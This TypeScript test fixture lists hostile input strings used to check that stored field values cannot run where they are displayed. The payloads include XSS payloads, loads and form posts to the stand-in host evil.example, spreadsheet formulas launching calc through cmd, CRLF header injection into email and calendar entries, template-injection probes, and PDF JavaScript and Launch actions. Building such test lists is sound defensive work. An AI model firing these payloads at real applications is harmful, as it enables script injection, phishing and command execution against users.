/*
 * What somebody with a grudge writes into a field so that it runs where it is shown: on a page, in a mail, in a spreadsheet, in a
 * calendar, on paper. What runs in a page sets `__pwned`, or asks `evil.example`, which no page of ours ever does.
 */

/** The name that is set in a page in which one of these ran. */
export const CANARY = '__pwned';

const ELEMENTS = [
  '<script>__pwned=1</script>',
  '"><script>__pwned=1</script>',
  "'><script src=//evil.example/x.js></script>",
  '<scr<script>ipt>__pwned=1</scr</script>ipt>',
  '<img src=x onerror=__pwned=1>',
  '<img src="//evil.example/a.png">',
  '"><img src=x onerror=__pwned=1//',
  '<svg onload=__pwned=1>',
  '<svg><script href="data:,__pwned=1"/></svg>',
  '<iframe src="javascript:parent.__pwned=1">',
  '<iframe srcdoc="<script>top.__pwned=1</script>">',
  '<object data=//evil.example/o></object>',
  '<embed src=//evil.example/e>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/s.css>',
  '<form action=//evil.example><button>Log in</button>',
  '<a href="javascript:__pwned=1">Open</a>',
  '<details open ontoggle=__pwned=1>',
  '<input autofocus onfocus=__pwned=1>',
  '<body onload=__pwned=1>',
  '<video><source onerror=__pwned=1>',
  '<marquee onstart=__pwned=1>',
  '<template><img src=x onerror=__pwned=1>',
];

const OUT_OF_PLACE = [
  '</title><script>__pwned=1</script>',
  '</textarea><script>__pwned=1</script>',
  '</style><script>__pwned=1</script>',
  '</script><script>__pwned=1</script>',
  '" onmouseover="__pwned=1" x="',
  "' autofocus onfocus='__pwned=1",
  '`-(__pwned=1)-`',
  "';__pwned=1;//",
  '\\";__pwned=1;//',
  '<!--><img src=x onerror=__pwned=1>-->',
  '<![CDATA[<img src=x onerror=__pwned=1>]]>',
  '<b>bold</b> <i>and</i> <u>so on</u>',
];

/** Harmless as they stand, and something else to code that decodes, cleans or parses them once more. */
const PARSED_TWICE = [
  '&lt;script&gt;__pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned=1&#62;',
  '%3Cscript%3E__pwned=1%3C/script%3E',
  '\\u003cscript\\u003e__pwned=1\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1E__pwned=1\uFF1C/script\uFF1E',
  '<math><mtext><table><mglyph><style><img src onerror=__pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=__pwned=1>">',
];

const ADDRESSES = [
  'javascript:__pwned=1',
  'JaVa\tScRiPt:__pwned=1',
  'data:text/html,<script>__pwned=1</script>',
  'vbscript:__pwned',
  '//evil.example/login',
  'https://evil.example/?log=in',
  'background:url(//evil.example/b.png)',
  '<style>@import "//evil.example/i.css"</style>',
  'expression(__pwned=1)',
];

const TEMPLATES = ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{constructor.constructor('__pwned=1')()}}"];
const ICU = ['{name}', '{count, plural, one {#} other {#}}', "{odd '{' }", '# {0} %s', '{'];
const POLLUTION = ['__proto__', 'constructor', 'toString'];

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","Log in")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\uFF1D1+1',
  'x;=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r=1+1',
  '",=1+1,"',
];

const LINES = [
  'x\r\nBcc: a@evil.example',
  'x\nBcc: a@evil.example\n\nHello',
  'x\r\nContent-Type: text/html\r\n\r\n<b>',
  'x\r\nATTENDEE:mailto:a@evil.example',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y',
  'x\\nATTACH:https://evil.example',
  'x\u2028__pwned=1\u2029',
  '%0d%0aSet-Cookie:a=b',
  '=?utf-8?Q?evil?=',
];

const UNICODE = [
  '\u202Egnp.exe',
  '\u2066\u2067turned\u2069',
  'zero\u200Bwidth\u200D\u2060',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F600}\u{1F4A9}',
  'e\u0301e\u0301',
  'Z\u0351\u036B\u0343a\u0334\u0351l\u0356go',
  '\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD',
  '\u001B[31mred\u0007',
  'end\uFFFEof line\uFFFF',
  '\u0130\u0131\u00DF\uFB01',
];

const PDF = [
  '(x) /S /JavaScript /JS (app.alert(1))',
  ') /URI (https://evil.example)',
  '/Launch <</F(calc.exe)>>',
  '%PDF-1.7 endobj',
];

const LONG = ['W'.repeat(45), 'x'.repeat(1_000), `${'\u00E4'.repeat(70)} end`, 'ab '.repeat(100)];

/** Texts that a database could not store; every field refuses them. */
export const UNSTORABLE: readonly string[] = ['a\0b', '\0', '\uD800', 'x\uDFFFy'];

/** Short enough for the smallest fields. */
const SHORT = ['<b>x', '"><x', "'--", '<!--', '{{1}}', '=1', '@a', '&lt;'];

/** Each may be stored as text; whether it fits is the field's to say. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...ELEMENTS,
  ...OUT_OF_PLACE,
  ...PARSED_TWICE,
  ...ADDRESSES,
  ...TEMPLATES,
  ...ICU,
  ...POLLUTION,
  ...FORMULAS,
  ...LINES,
  ...UNICODE,
  ...PDF,
  ...LONG,
  ...SHORT,
];
